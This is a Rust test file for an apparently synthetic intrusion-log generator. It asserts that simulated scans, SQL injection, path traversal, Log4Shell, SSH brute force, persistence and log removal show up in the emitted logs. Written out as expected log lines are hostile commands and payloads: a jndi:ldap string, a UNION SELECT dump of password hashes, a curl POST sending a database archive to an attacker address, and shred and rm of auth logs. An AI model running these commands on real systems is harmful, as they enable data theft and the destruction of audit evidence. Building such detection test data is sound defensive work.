//! The actions against the public web server and the Linux host: scans, injection,
//! traversal, Log4Shell, SSH guessing and the intruder's sudo commands, with the
//! audit log's record of every program the intruder starts, persistence and log
//! removal on Linux.

use std::collections::BTreeSet;

use super::{WEB, play_all, s, scenario, step, with};
use crate::emit::Stream;
use crate::scenario::Action;

#[test]
fn web_reconnaissance() {
    let p = play_all(&scenario(WEB), 7);
    let conns = p.json("portscan", Stream::ZeekConn);
    let ports: BTreeSet<u64> = conns
        .iter()
        .filter(|v| v["id.orig_h"] == "203.0.113.150" && v["proto"] == "tcp")
        .filter_map(|v| v["id.resp_p"].as_u64())
        .collect();
    assert!(ports.len() >= 900, "{}", ports.len());
    assert!(conns.iter().filter(|v| v["conn_state"] == "S0").count() >= 900);
    let denies = p
        .lines("portscan", Stream::Firewall)
        .iter()
        .filter(|l| l.contains("act=deny"))
        .count();
    assert!(denies >= 900, "{denies}");
    let first = p.of("portscan", Stream::ZeekConn).first().unwrap().time;
    let last = p.of("portscan", Stream::ZeekConn).last().unwrap().time;
    assert!(last - first < 15 * 60 * 1_000_000_000 && last - first > 60 * 1_000_000_000);
    assert!(
        p.json("portscan", Stream::Suricata)
            .iter()
            .any(|v| s(&v["alert"], "signature").starts_with("ET SCAN"))
    );
    assert!(
        p.lines("portscan", Stream::WebAccess)
            .iter()
            .any(|l| l.contains("Nmap Scripting Engine"))
    );

    let access = p.lines("webscan", Stream::WebAccess);
    assert!(access.len() >= 300);
    assert!(access.iter().all(
        |l| l.starts_with("shop.kaede.example:80 203.0.113.150 ") && l.contains("Nikto/2.1.6")
    ));
    for probe in [
        "/.git/config",
        "/wp-admin/",
        "/phpmyadmin/",
        "/.env",
        "/cgi-bin/test.cgi",
    ] {
        assert!(
            access
                .iter()
                .any(|l| l.contains(&format!("GET {probe} HTTP/1.1\" 404"))),
            "{probe}"
        );
    }
    let times: Vec<i64> = p
        .of("webscan", Stream::WebAccess)
        .iter()
        .map(|r| r.time)
        .collect();
    let span = times.iter().max().unwrap() - times.iter().min().unwrap();
    assert!(span < 10 * 60 * 1_000_000_000, "{span}");
    assert!(p.json("webscan", Stream::ZeekHttp).len() == access.len());
    assert!(
        p.json("webscan", Stream::Suricata)
            .iter()
            .any(|v| v["alert"]["signature"] == "ET SCAN Nikto Web App Scan in Progress")
    );
}

#[test]
fn web_exploitation() {
    let p = play_all(&scenario(WEB), 8);
    let access = p.lines("sqli", Stream::WebAccess);
    assert!(access.iter().all(|l| l.contains("GET /product.php?id=")));
    assert!(access.iter().any(|l| l.contains("%27 HTTP/1.1\" 500")));
    assert!(access.iter().any(|l| l.contains("ORDER%20BY%205--%20-")));
    let dump: Vec<_> = access
        .iter()
        .filter(|l| l.contains("UNION%20ALL%20SELECT") && l.contains("FROM%20shop.customers"))
        .collect();
    assert!(!dump.is_empty());
    assert!(
        dump.iter()
            .any(|l| l.contains("email") && l.contains("password_hash") && l.contains("\" 200 "))
    );
    let big = access
        .iter()
        .filter_map(|l| {
            l.split("\" 200 ")
                .nth(1)?
                .split(' ')
                .next()?
                .parse::<u64>()
                .ok()
        })
        .max()
        .unwrap();
    assert!(big > 400_000, "{big}");
    assert!(access.iter().all(|l| l.contains("sqlmap/1.7.2#stable")));
    assert!(
        p.json("sqli", Stream::Suricata).iter().any(
            |v| s(&v["alert"], "signature").starts_with("ET WEB_SERVER Possible SQL Injection")
        )
    );
    assert_eq!(p.json("sqli", Stream::ZeekHttp).len(), access.len());

    let access = p.lines("traversal", Stream::WebAccess);
    assert!(
        access
            .iter()
            .any(|l| l.contains("GET /download.php?file=../../../../etc/passwd HTTP/1.1\" 200"))
    );
    assert!(access.iter().any(|l| l.contains("..%252f")));

    let access = p.lines("jndi", Stream::WebAccess);
    assert!(
        access
            .iter()
            .any(|l| l.ends_with("\"${jndi:ldap://203.0.113.150:1389/a}\""))
    );
    assert!(
        access
            .iter()
            .any(|l| l.contains("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.150%3A1389"))
    );
    let ldap: Vec<_> = p
        .json("jndi", Stream::ZeekConn)
        .into_iter()
        .filter(|v| v["id.orig_h"] == "192.168.60.10" && v["id.resp_p"] == 1389)
        .collect();
    assert!(!ldap.is_empty());
    assert!(
        p.lines("jndi", Stream::Firewall)
            .iter()
            .any(|l| l.contains("src=192.168.60.10")
                && l.contains("dpt=1389")
                && l.contains("act=deny"))
    );
}

#[test]
fn ssh_brute_force_then_the_intruders_commands() {
    let p = play_all(&scenario(WEB), 9);
    let auth = p.lines("bruteforce", Stream::LinuxAuth);
    let failed = auth
        .iter()
        .filter(|l| {
            l.contains("sshd[")
                && l.contains("Failed password for webadmin from 203.0.113.150 port ")
        })
        .count();
    assert_eq!(failed, 60);
    assert!(
        auth.iter()
            .any(|l| l.contains("Accepted password for webadmin from 203.0.113.150"))
    );
    assert!(
        auth.iter()
            .any(|l| l.contains("pam_unix(sshd:session): session opened for user webadmin"))
    );
    let times: Vec<i64> = p
        .of("bruteforce", Stream::LinuxAuth)
        .iter()
        .map(|r| r.time)
        .collect();
    let span = times.iter().max().unwrap() - times.iter().min().unwrap();
    assert!(
        span < 15 * 60 * 1_000_000_000 && span > 60 * 1_000_000_000,
        "{span}"
    );
    let ssh = p
        .json("bruteforce", Stream::ZeekConn)
        .into_iter()
        .filter(|v| v["id.resp_p"] == 22)
        .count();
    assert!(ssh >= 20);
    assert!(p.lines("collect", Stream::LinuxAuth).iter().any(|l| l.ends_with(
        "sudo: webadmin : TTY=pts/0 ; PWD=/home/webadmin ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache/db.tgz /var/backups/shop"
    )));
    assert!(p.lines("exfil", Stream::LinuxAuth).iter().any(|l| l.contains(
        "COMMAND=/usr/bin/curl -sk -X POST --data-binary @/tmp/.cache/db.tgz https://203.0.113.150/upload"
    )));
    let up = p
        .json("exfil", Stream::ZeekConn)
        .into_iter()
        .find(|v| v["id.resp_h"] == "203.0.113.150" && v["id.resp_p"] == 443)
        .unwrap();
    assert!(up["orig_bytes"].as_u64().unwrap() >= 420_000_000);
    assert!(p.lines("cleanup", Stream::LinuxAuth).iter().any(|l| l.contains(
        "COMMAND=/usr/bin/shred -u -z /tmp/.cache/db.tgz /home/webadmin/.bash_history /var/log/auth.log.1"
    )));
    assert!(auth.iter().any(|l| {
        l.ends_with("sudo: webadmin : TTY=pts/0 ; PWD=/home/webadmin ; USER=root ; COMMAND=list")
    }));

    // The audit log: the login, the look around, and every sudo command with the
    // command it runs, all in the intruder's session.
    let audit = p.lines("bruteforce", Stream::LinuxAudit);
    let execve = |lines: &[&str], args: &str| {
        lines
            .iter()
            .any(|l| l.starts_with("node=WEB01 type=EXECVE ") && l.ends_with(args))
    };
    for args in [
        "argc=2 a0=\"uname\" a1=\"-snrvm\"",
        "argc=1 a0=\"-bash\"",
        "argc=2 a0=\"id\" a1=\"-u\"",
        "argc=1 a0=\"id\"",
        "argc=2 a0=\"uname\" a1=\"-a\"",
        "argc=2 a0=\"cat\" a1=\"/etc/passwd\"",
        "argc=2 a0=\"sudo\" a1=\"-l\"",
    ] {
        assert!(execve(&audit, args), "{args}");
    }
    let session = audit
        .iter()
        .find(|l| l.contains(" comm=\"bash\" "))
        .and_then(|l| l.split(" ses=").nth(1))
        .and_then(|s| s.split(' ').next())
        .unwrap()
        .to_string();
    assert!(
        auth.iter()
            .any(|l| l.ends_with(&format!("New session {session} of user webadmin.")))
    );
    let syscalls = |step: &str| -> Vec<String> {
        p.lines(step, Stream::LinuxAudit)
            .into_iter()
            .filter(|l| l.contains(" type=SYSCALL "))
            .map(str::to_string)
            .collect()
    };
    for (step, args, comm) in [
        (
            "collect",
            "argc=4 a0=\"tar\" a1=\"czf\" a2=\"/tmp/.cache/db.tgz\" a3=\"/var/backups/shop\"",
            "tar",
        ),
        (
            "exfil",
            "a5=\"@/tmp/.cache/db.tgz\" a6=\"https://203.0.113.150/upload\"",
            "curl",
        ),
        (
            "cleanup",
            "a4=\"/home/webadmin/.bash_history\" a5=\"/var/log/auth.log.1\"",
            "shred",
        ),
    ] {
        let lines = p.lines(step, Stream::LinuxAudit);
        assert!(execve(&lines, args), "{step}");
        let calls = syscalls(step);
        assert_eq!(calls.len(), 2, "{step}: sudo and the command");
        assert!(
            calls[0].contains(" uid=1003 gid=1003 euid=0 ") && calls[0].contains(" comm=\"sudo\" ")
        );
        assert!(
            calls[1].contains(" auid=1003 uid=0 gid=0 euid=0 ")
                && calls[1].contains(&format!(" comm=\"{comm}\" "))
        );
        for c in &calls {
            assert!(c.contains(&format!(" tty=pts0 ses={session} ")), "{c}");
        }
    }
}

/// Linux persistence and log removal on the web server: the crontab edit and the
/// job's runs, the systemd unit installed with sudo and the service started.
#[test]
fn linux_persistence_and_log_removal_run_their_programs() {
    let mut sc = scenario(WEB);
    sc.duration = "2d".to_string();
    let steps = &mut sc.campaign.steps;
    steps.push(with(
        step("cron", Action::ScheduledTask, "WEB01"),
        Some("webadmin"),
        None,
        &[("every", "20")],
    ));
    steps.push(with(
        step("unit", Action::ServiceInstall, "WEB01"),
        None,
        None,
        &[
            ("service", "DbusHelper"),
            ("payload", "/usr/local/bin/dbus-helper"),
        ],
    ));
    steps.push(with(
        step("logs", Action::ClearLogs, "WEB01"),
        Some("webadmin"),
        None,
        &[("logs", "/var/log/auth.log;/var/log/my app.log")],
    ));
    let p = play_all(&sc, 3);
    let cron = p.lines("cron", Stream::LinuxAudit);
    let has = |lines: &[&str], needle: &str| lines.iter().any(|l| l.contains(needle));
    assert!(has(&cron, "argc=2 a0=\"crontab\" a1=\"-l\""));
    assert!(has(&cron, "argc=2 a0=\"crontab\" a1=\"-\""));
    // Each run: cron's shell, then the payload in the user's own folder.
    let runs = p
        .lines("cron", Stream::LinuxAuth)
        .iter()
        .filter(|l| l.contains("session opened for user webadmin"))
        .count();
    assert!(runs >= 10, "{runs}");
    let payload = "name=\"/home/webadmin/.local/bin/dbus-helper\"";
    let started = cron
        .iter()
        .filter(|l| l.contains(" type=PATH ") && l.contains(payload))
        .count();
    assert_eq!(started, runs);
    assert!(
        cron.iter()
            .any(|l| l.contains(payload) && l.contains(" ouid=1003 "))
    );
    assert!(has(&cron, "a0=\"/bin/sh\" a1=\"-c\" a2=2F686F6D652F"));
    assert!(cron.iter().any(|l| l.contains(" type=SYSCALL ")
        && l.contains(" auid=1003 uid=1003 ")
        && l.contains(" tty=(none) ")
        && l.contains(" comm=\"dbus-helper\" ")));

    let unit = p.lines("unit", Stream::LinuxAudit);
    for args in [
        "a0=\"tee\" a1=\"/etc/systemd/system/dbushelper.service\"",
        "a0=\"chmod\" a1=\"+x\" a2=\"/usr/local/bin/dbus-helper\"",
        "a0=\"systemctl\" a1=\"daemon-reload\"",
        "a0=\"systemctl\" a1=\"enable\" a2=\"--now\" a3=\"dbushelper.service\"",
    ] {
        assert!(has(&unit, args), "{args}");
    }
    // systemd starts the service outside any login.
    assert!(unit.iter().any(|l| l.contains(" ppid=1 ")
        && l.contains(" auid=4294967295 uid=0 ")
        && l.contains(
            " tty=(none) ses=4294967295 comm=\"dbus-helper\" exe=\"/usr/local/bin/dbus-helper\" "
        )));
    assert!(
        p.lines("unit", Stream::LinuxAuth)
            .iter()
            .any(|l| l.ends_with("COMMAND=/usr/bin/systemctl enable --now dbushelper.service"))
    );

    // A file name with a space is one argument, hex-encoded.
    let logs = p.lines("logs", Stream::LinuxAudit);
    assert!(has(
        &logs,
        "argc=4 a0=\"rm\" a1=\"-f\" a2=\"/var/log/auth.log\" a3=2F7661722F6C6F672F6D79206170702E6C6F67"
    ));
    assert!(
        p.lines("logs", Stream::LinuxAuth)
            .iter()
            .any(|l| l.ends_with("COMMAND=/usr/bin/rm -f /var/log/auth.log /var/log/my app.log"))
    );
}
